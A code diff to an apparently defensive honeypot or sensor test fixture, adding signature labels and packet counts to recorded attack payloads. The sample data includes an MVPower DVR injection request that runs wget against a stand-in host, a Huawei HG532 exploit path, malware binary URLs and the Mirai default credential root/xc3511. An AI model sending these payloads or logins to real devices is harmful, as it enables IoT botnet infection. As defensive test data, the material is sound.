@@ -105,16 +105,20 @@ static void download(struct span *s, uint32_t second, const char *source, uint16
                               .host_is_source = host_is_source};
 }
 
-static void content(struct span *s, uint8_t id, struct text_ref bytes, bool cut)
+static void content(struct span *s, uint8_t id, struct text_ref bytes, bool cut,
+                    const char *signatures)
 {
-    struct payload_row row = {.bytes = bytes, .cut = cut};
+    struct payload_row row = {
+        .bytes = bytes, .cut = cut, .signatures = keep(s, signatures, strlen(signatures))};
     memset(row.id, id, sizeof row.id);
     s->payloads[s->rows.payload_count++] = row;
 }
 
-static void said(struct span *s, uint32_t second, const char *source, uint16_t port, uint8_t id)
+static void said(struct span *s, uint32_t second, const char *source, uint16_t port, uint8_t id,
+                 uint32_t packets)
 {
-    struct payload_event_row row = {.time_us = at(s, second), .talk = from(source, port)};
+    struct payload_event_row row = {
+        .time_us = at(s, second), .talk = from(source, port), .packets = packets};
     memset(row.id, id, sizeof row.id);
     s->payload_events[s->rows.payload_event_count++] = row;
 }
@@ -132,6 +136,7 @@ static void event(struct span *s, uint32_t from_s, uint32_t until_s, enum sensor
 
 #define HTTP_REQUEST                                                                               \
     "GET /shell?cd+/tmp;wget+http://192.0.2.9/x.sh HTTP/1.1\r\nHost: \"198.51.100.1\"\r\n\r\n"
+#define HUAWEI "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 198.51.100.1\r\n\r\n"
 static const char *const arm[] = {"http://192.0.2.9/bins/x.arm7", "192.0.2.9", "x.arm7", "arm7"};
 static const char *const script[] = {"http://192.0.2.9/x.sh", "192.0.2.9", "x.sh", ""};
 static const char *const tftp[] = {"tftp://dl.example.net/mips", "dl.example.net", "mips", "mips"};
@@ -157,11 +162,15 @@ static void first_span(struct span *s)
     download(s, 13, "192.0.2.9", 23, DOWNLOAD_WGET, true, arm);
     download(s, 31, "198.51.100.7", 80, DOWNLOAD_WGET, false, script);
     download(s, 14, "192.0.2.9", 23, DOWNLOAD_ECHO, false, echo);
-    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false);
-    content(s, 0xbb, KEEP(s, "\x16\x03\x01\0\\'\xff"), true);
-    said(s, 31, "198.51.100.7", 80, 0xaa);
-    said(s, 32, "2001:db8::9", 8080, 0xaa);
-    said(s, 33, "192.0.2.9", 443, 0xbb);
+    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false, "mvpower-dvr generic-downloader");
+    content(s, 0xbb, KEEP(s, "\x16\x03\x01\0\\'\xff"), true, "");
+    content(s, 0xcc, KEEP(s, HUAWEI), false, "huawei-hg532 of-another-pack");
+    content(s, 0xdd, KEEP(s, "GET / HTTP/1.1\r\nUser-Agent: zgrab/0.x\r\n\r\n"), false, "zgrab");
+    said(s, 31, "198.51.100.7", 80, 0xaa, 1);
+    said(s, 32, "2001:db8::9", 8080, 0xaa, 1);
+    said(s, 33, "192.0.2.9", 443, 0xbb, 1);
+    said(s, 34, "192.0.2.9", 37215, 0xcc, 12);
+    said(s, 36, "198.51.100.9", 80, 0xdd, 1);
     event(s, 0, 0, EVENT_START, 0, "");
     event(s, 600, 900, EVENT_DISK_FULL, 1234, "no space left on device");
 }
@@ -172,8 +181,10 @@ static void second_span(struct span *s)
     talk_to(s, 10, "192.0.2.9", 23, 80, false);
     login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), LOGIN_LIST_MIRAI, true);
     download(s, 13, "192.0.2.9", 23, DOWNLOAD_TFTP, false, tftp);
-    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false);
-    said(s, 15, "192.0.2.9", 80, 0xaa);
+    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false, "mvpower-dvr generic-downloader");
+    content(s, 0xcc, KEEP(s, HUAWEI), false, "huawei-hg532 of-another-pack");
+    said(s, 15, "192.0.2.9", 80, 0xaa, 1);
+    said(s, 40, "198.51.100.7", 37215, 0xcc, 1);
     event(s, 100, 100, EVENT_RELOAD, 0, "addresses");
 }
 
